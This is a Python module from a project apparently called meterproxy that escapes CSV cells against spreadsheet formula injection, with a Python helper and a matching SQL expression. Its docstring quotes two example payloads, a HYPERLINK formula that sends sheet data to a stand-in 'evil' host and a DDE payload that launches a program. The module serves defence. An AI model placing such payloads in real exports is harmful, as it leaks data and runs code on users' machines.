"""CSV cells a spreadsheet will not run: OWASP's rule against formula injection.

Text in meterproxy's CSV comes partly from clients (``X-Meter-User``,
``X-Meter-Session``, tags) and upstreams (model names, error texts). Excel,
LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``,
``-`` or ``@`` (and, after a tab or carriage return, whatever follows), even
inside CSV quotes: ``=HYPERLINK("http://evil/?"&A1)`` leaks the sheet,
``+cmd|' /C calc'!A0`` runs a program (DDE). OWASP's rule: prefix such a cell
with a single quote, which spreadsheets show as text and do not keep as part
of the value in the cell's formula. Only text cells are touched; numbers are
written by meterproxy itself, and a negative number must stay a number.

Two spellings of the one rule: `safe_cell` for Python writers (`reports`,
`whatif`) and `safe_cell_sql` for exports formatted by the database
(``store/export.py``), in SQL both SQLite and PostgreSQL run as written.
"""

from __future__ import annotations

__all__ = ["FORMULA_STARTS", "safe_cell", "safe_cell_sql"]

#: A cell starting with one of these is evaluated by spreadsheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: str) -> str:
    """``value``, with a leading ``'`` if a spreadsheet would take it for a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def safe_cell_sql(expr: str) -> str:
    """The SQL for `safe_cell` applied to the text expression ``expr`` (NULL stays NULL)."""
    starts = ", ".join("'" + s + "'" for s in FORMULA_STARTS)  # tab and CR as literal characters
    return f"CASE WHEN substr({expr}, 1, 1) IN ({starts}) THEN '''' || {expr} ELSE {expr} END"
